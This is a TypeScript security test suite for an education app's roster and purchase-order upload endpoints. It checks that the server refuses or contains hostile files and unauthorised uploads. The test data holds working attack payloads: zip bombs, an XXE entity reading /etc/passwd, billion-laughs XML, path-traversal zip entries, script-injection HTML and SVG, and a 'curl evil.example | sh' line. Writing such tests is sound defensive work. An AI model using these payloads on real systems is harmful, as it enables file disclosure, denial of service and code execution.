import { strToU8, zipSync } from 'fflate';
import { openFiles } from '#platform/server/files/files.ts';
import { readUpload } from '#product/rosters/uploads/server/preview/preview.ts';
import { workbook } from '#product/rosters/uploads/server/reading/testing/workbook.ts';
import { noLicenses } from '#product/rosters/uploads/server/testing/no-licenses.ts';
import { BILLING } from '#testing/api/purchases.ts';
import { type Attack, attack, firstOf, mustWork, refused, unless } from './attack.ts';
import type { Answer } from './http.ts';
import type { World } from './world.ts';

const HEADER = 'First name,Last name,Grade\n';
const GOOD = `${HEADER}Robin,Birch,3\n`;

function sendRoster(
  world: World,
  headers: Record<string, string>,
  file: Buffer,
  more: Record<string, string> = {},
): Promise<Answer> {
  const query = new URLSearchParams({ file_name: 'roster.csv', ...more }).toString();
  return world.ask({
    method: 'POST',
    path: `/api/educator/uploads?${query}`,
    headers: { ...headers, 'content-type': 'application/octet-stream' },
    body: file,
  });
}

/** What a worker makes of it; null where the server did not take the file at all. */
async function madeOf(world: World, file: Buffer): Promise<{ status: string; text: string } | null> {
  const headers = await world.tokenOf(world.teacher.id);
  const sent = await sendRoster(world, headers, file);
  if (sent.status >= 500) throw new Error(`answered ${sent.status}`);
  if (sent.status >= 400) return null;
  const { id } = sent.json().data;
  const { db, appKey } = world;
  const files = openFiles(appKey, null);
  const ports = { appKey, files, licenses: noLicenses, tell: async () => undefined, clock: () => new Date() };
  await readUpload(db, ports, id);
  const state = await world.ask({ path: `/api/educator/uploads/${id}`, headers });
  mustWork(state);
  return { status: state.json().data.status, text: state.text };
}

const zipOf = (files: Record<string, string | Uint8Array>): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(files).map(([name, content]) => [
          name,
          typeof content === 'string' ? strToU8(content) : content,
        ]),
      ),
      { level: 1 },
    ),
  );

const sheetOf = (xml: string | Uint8Array): Buffer =>
  zipOf({
    'xl/worksheets/sheet1.xml': xml,
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.xml':
      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  });
/** More than one file of a zip may be. */
const BEYOND = 210 * 1024 * 1024;
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** Files that are no roster, and want something else. */
const HOSTILE: readonly [name: string, file: () => Buffer][] = [
  ['a zip that unpacks to 210 MB', () => zipOf({ 'xl/workbook.xml': new Uint8Array(BEYOND) })],
  ['a workbook whose sheet unpacks to 210 MB', () => sheetOf(new Uint8Array(BEYOND))],
  [
    'a workbook that declares an entity of a file',
    () =>
      sheetOf(
        `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>`,
      ),
  ],
  [
    'a workbook with a billion laughs',
    () =>
      sheetOf(
        `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]><worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row></sheetData></worksheet>`,
      ),
  ],
  [
    'a zip with names that climb',
    () => zipOf({ '../../../etc/cron.d/evil.csv': GOOD, '..\\..\\evil.csv': GOOD }),
  ],
  [
    'a zip with ten thousand files',
    () => zipOf(Object.fromEntries(Array.from({ length: 10_000 }, (_, nth) => [`f${nth}.csv`, 'x']))),
  ],
  ['a zip in a zip', () => zipOf({ 'roster.zip': zipOf({ 'roster.csv': GOOD }) })],
  ['a program', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])],
  ['a script of a shell', () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
  ['a web page', () => Buffer.from('<html><script>alert(1)</script></html>')],
  ['a text with NULs', () => Buffer.from(`${HEADER}Ro\u0000bin,Birch,3\n`)],
  ['a line of twenty thousand cells', () => Buffer.from(`${HEADER}${'a,'.repeat(20_000)}\n`)],
  ['a quote that never ends', () => Buffer.from(`${HEADER}"${'a'.repeat(500_000)}`)],
  ['fifty thousand and one rows', () => Buffer.from(HEADER + 'Robin,Birch,3\n'.repeat(50_001))],
];

const hostile = HOSTILE.map(([name, file]) =>
  attack(`${name} is read as a roster, or stops the one who reads it`, async (world) => {
    const bytes = file();
    const before = process.memoryUsage().rss;
    const began = performance.now();
    const made = await madeOf(world, bytes);
    const grown = (process.memoryUsage().rss - before) / 1e6;
    const alive = (await world.ask({ path: '/api/health' })).status === 200;
    return firstOf([
      unless(made === null || made.status === 'failed', `it is ${made?.status}`),
      unless(!/root:x:/.test(made?.text ?? ''), 'it read a file of the server'),
      unless(alive && performance.now() - began < 30_000, 'it took half a minute'),
      unless(grown < 1500, `it took ${grown.toFixed(0)} MB`),
    ]);
  }),
);

const more = [
  attack('a roster goes to another school', async (world) => {
    const headers = await world.tokenOf(world.teacher.id);
    mustWork(await sendRoster(world, headers, Buffer.from(GOOD)));
    return refused(
      await sendRoster(world, headers, Buffer.from(GOOD), { school_id: String(world.elsewhere.school) }),
    );
  }),
  attack('a roster makes students of an educator of another school', async (world) => {
    const headers = await world.tokenOf(world.teacher.id);
    return refused(
      await sendRoster(world, headers, Buffer.from(GOOD), { educator_id: String(world.elsewhere.colleague) }),
    );
  }),
  attack('a child uploads a roster', async (world) =>
    refused(await sendRoster(world, await world.as('student'), Buffer.from(GOOD)), 403),
  ),
  attack('nobody uploads a roster', async (world) =>
    refused(await sendRoster(world, {}, Buffer.from(GOOD)), 401),
  ),
  attack('a roster of thirty megabytes is taken', async (world) =>
    refused(
      await sendRoster(world, await world.tokenOf(world.teacher.id), Buffer.alloc(30 * 1024 * 1024, 'a')),
      413,
    ),
  ),
  attack('a formula in a workbook is run', async (world) => {
    const made = await madeOf(
      world,
      workbook([
        [
          ['First name', 'Last name', 'Grade'],
          ['=1+1', 'Birch', 3],
        ],
      ]),
    );
    return unless(made?.text.includes('"2"') !== true, 'it was');
  }),
  ...(
    [
      ['a web page', Buffer.from('<html><script>alert(1)</script></html>')],
      ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])],
      [
        'a picture that is a script',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      ],
      ['nothing', Buffer.alloc(0)],
    ] as const
  ).map(([name, file]) =>
    attack(`a purchase order is ${name}`, async (world) => {
      const query = {
        file_name: 'po.pdf',
        purchase_order_number: 'PO-1',
        purchase_order_date: '2026-09-14',
        tax_exempt: 'false',
        quote_id: String(world.elsewhere.quote),
        ...BILLING,
      };
      return refused(
        await world.ask({
          method: 'POST',
          path: `/api/educator/purchase-orders?${new URLSearchParams(query).toString()}`,
          headers: {
            ...(await world.elsewhere.educator.headers()),
            'content-type': 'application/octet-stream',
          },
          body: file,
        }),
      );
    }),
  ),
];

export const UPLOADS: readonly Attack[] = [...hostile, ...more];
